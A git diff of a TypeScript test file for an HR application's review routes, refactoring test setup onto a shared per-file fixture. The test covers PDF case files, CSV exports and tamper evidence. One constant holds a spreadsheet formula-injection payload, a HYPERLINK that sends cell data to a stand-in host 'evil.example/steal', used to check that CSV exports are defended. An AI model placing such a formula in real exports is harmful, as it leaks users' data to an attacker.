@@ -16,16 +16,14 @@ import * as csvRoute from "~/routes/hr.cases.csv";
 import * as hrAccountRoute from "~/routes/hr.accounts.$id";
 import * as historyRoute from "~/routes/hr.employees.$id";
 import * as verifyRoute from "~/routes/hr.verify";
-import { getDb, type Db } from "~/utils/db.server";
 import { call, getRequest, loginCookie, postRequest } from "../fixtures/http";
-import { createTestOrg, type TestOrg } from "../fixtures/org";
+import { createTestOrg, orgForThisFile } from "../fixtures/org";
 import { TEST_APP_URL } from "../fixtures/database";
 
 // HR review: the PDF case file, CSV lists without formula injection, and tamper evidence
 // (a row edited in the database is named by the verify page and the CLI).
 
-let db: Db;
-let org: TestOrg;
+const { db, org } = await orgForThisFile("hr");
 let hrCookie: string;
 let ref: string;
 let id: string;
@@ -35,8 +33,6 @@ let tamperedId: string;
 const INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
 
 beforeAll(async () => {
-  db = await getDb();
-  org = await createTestOrg(db, "hr");
   const base = {
     reporterId: org.employeeA.id,
     accountId: org.account.id,
